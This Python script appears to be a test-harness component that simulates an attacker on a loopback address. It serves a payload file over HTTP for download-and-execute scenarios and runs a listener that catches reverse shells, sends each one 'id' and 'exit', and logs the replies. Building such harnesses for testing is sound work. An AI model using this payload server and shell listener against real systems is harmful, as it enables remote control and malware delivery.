#!/usr/bin/python3
"""The attacker's side of the scenarios, on a loopback address: an HTTP server handing out a
payload program (for download-and-execute) and a listener that receives reverse shells,
sends each one a command and an exit, and logs what came back.

  attacker.py --host 127.0.0.2 --http-port P --shell-port Q --payload FILE --log FILE
              [--lifetime SECONDS]

Prints "ready" once both sockets listen, and stops by itself after --lifetime (default 600 s)
or on SIGTERM.
"""
import argparse
import signal
import socket
import sys
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer


def serve_payload(host, port, payload):
    class Payload(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "application/octet-stream")
            self.send_header("Content-Length", str(len(payload)))
            self.end_headers()
            self.wfile.write(payload)

        def log_message(self, fmt, *args):
            pass

    server = HTTPServer((host, port), Payload)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def receive_shells(listener, log_path):
    while True:
        conn, peer = listener.accept()
        with conn:
            conn.settimeout(10)
            conn.sendall(b"id\nexit\n")
            received = b""
            try:
                while chunk := conn.recv(4096):
                    received += chunk
            except OSError:
                pass
        with open(log_path, "ab") as log:
            log.write(b"shell from %s:%d: %s\n" % (peer[0].encode(), peer[1], received.strip()))


def main():
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--host", required=True)
    ap.add_argument("--http-port", type=int, required=True)
    ap.add_argument("--shell-port", type=int, required=True)
    ap.add_argument("--payload", required=True)
    ap.add_argument("--log", required=True)
    ap.add_argument("--lifetime", type=float, default=600)
    args = ap.parse_args()

    with open(args.payload, "rb") as f:
        serve_payload(args.host, args.http_port, f.read())
    listener = socket.create_server((args.host, args.shell_port))
    threading.Thread(target=receive_shells, args=(listener, args.log), daemon=True).start()
    print("ready", flush=True)

    done = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: done.set())
    done.wait(args.lifetime)
    return 0


if __name__ == "__main__":
    sys.exit(main())
